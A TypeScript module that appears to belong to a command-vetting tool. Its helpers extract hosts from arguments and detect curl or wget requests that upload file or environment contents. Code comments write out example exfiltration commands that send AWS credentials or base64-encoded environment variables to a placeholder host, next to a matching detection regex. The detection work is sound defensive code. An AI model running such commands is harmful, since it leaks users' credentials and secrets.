/** Small readers shared by the tool families: options by name, hosts of operands, quoting for reasons. */
import { hostOf } from "../network.js";
import type { ParsedArgs, ParsedOption } from "../options.js";
import type { Targets } from "./types.js";

/** Characters of a name or argument quoted in a reason. */
const QUOTE_CHARS = 120;

/** A value as quoted in a reason: control characters as spaces, at most {@link QUOTE_CHARS} characters. */
export function quote(value: string): string {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: removing control characters is the point.
  const clean = value.replace(/[\u0000-\u001f\u007f]/g, " ");
  return clean.length > QUOTE_CHARS ? `${clean.slice(0, QUOTE_CHARS)}…` : clean;
}

/** The first option of one of these names. */
export function option(parsed: ParsedArgs, ...names: string[]): ParsedOption | undefined {
  return parsed.options.find((o) => names.includes(o.name));
}

/** Every option of one of these names, in order. */
export function options(parsed: ParsedArgs, ...names: string[]): ParsedOption[] {
  return parsed.options.filter((o) => names.includes(o.name));
}

/** The hosts of these values (URLs, `host:port`, addresses), each value once. */
export function hostsOf(values: (string | undefined)[]): string[] {
  const out: string[] = [];
  for (const value of new Set(values)) {
    if (value === undefined) continue;
    const host = hostOf(value);
    if (host !== undefined) out.push(host);
  }
  return out;
}

/** The host part of a remote-copy operand (`user@host:path`, `host::module`, `scp://host/…`), if remote. */
export function remoteHost(operand: string): string | undefined {
  if (/^(?:scp|sftp|rsync):\/\//i.test(operand)) return hostOf(operand);
  if (/^[/.~]/.test(operand)) return undefined;
  const match = /^(?:[^@/:]+@)?(\[[^\]]+\]|[^/:[\]]+):/.exec(operand);
  if (match === null) return undefined;
  return match[1]!.replace(/^\[|\]$/g, "");
}

/** No hosts, no proxies: what a tool that reaches nothing an argument names (a sniffer) targets. */
export const NO_TARGETS: Targets = Object.freeze({ hosts: [], via: [], exemptable: true }) as Targets;

/** Paths that are not files a download lands in. */
export const NOT_FILES: ReadonlySet<string> = new Set(["-", "/dev/null", "/dev/stdout", "/dev/stderr"]);

/** The reason for a download written into the working directory. */
export const IN_CWD = "working directory";

/** curl's long options that carry request data (a body or a form field): valued, and read for secrets. */
export const CURL_DATA_OPTIONS: readonly string[] = [
  "--data",
  "--data-ascii",
  "--data-binary",
  "--data-raw",
  "--data-urlencode",
  "--json",
  "--form",
  "--form-string",
];

const DATA_OPTIONS = new Set(["-d", "-F", ...CURL_DATA_OPTIONS, "--post-data", "--body-data"]);

// A command substitution that reads files or the environment: `$(cat ~/.aws/credentials)`, `$(< f)`.
const READS_FILES =
  /(?:\$\(|`)\s*(?:<|(?:cat|tac|head|tail|base64|base32|xxd|od|hexdump|strings|gzip|bzip2|xz|zstd|tar|env|printenv)\b)/;

/**
 * Data or a URL made of a command substitution that reads files or the environment, as exec sessions
 * show it: `curl -d "$(cat ~/.aws/credentials)" x`, `wget "http://x/?d=$(env | base64)"`.
 */
export function commandOutputSent(parsed: ParsedArgs): string | undefined {
  for (const o of parsed.options) {
    // Headers are left out: `-H "Authorization: Bearer $(cat …/serviceaccount/token)"` is how the
    // Kubernetes API is called from a pod, and a credential in a header is not data being carried away.
    if (!DATA_OPTIONS.has(o.name) || o.value === undefined || !READS_FILES.test(o.value)) continue;
    return `uploads command output (${quote(o.written)})`;
  }
  const operand = parsed.operands.find((value) => READS_FILES.test(value));
  return operand === undefined ? undefined : `sends command output in its URL (${quote(operand)})`;
}

/** The URLs an HTTP client requests: its operands and its `--url` options. */
export function requestedUrls(_name: string, parsed: ParsedArgs): string[] {
  return [...parsed.operands, ...options(parsed, "--url").map((o) => o.value ?? "")];
}
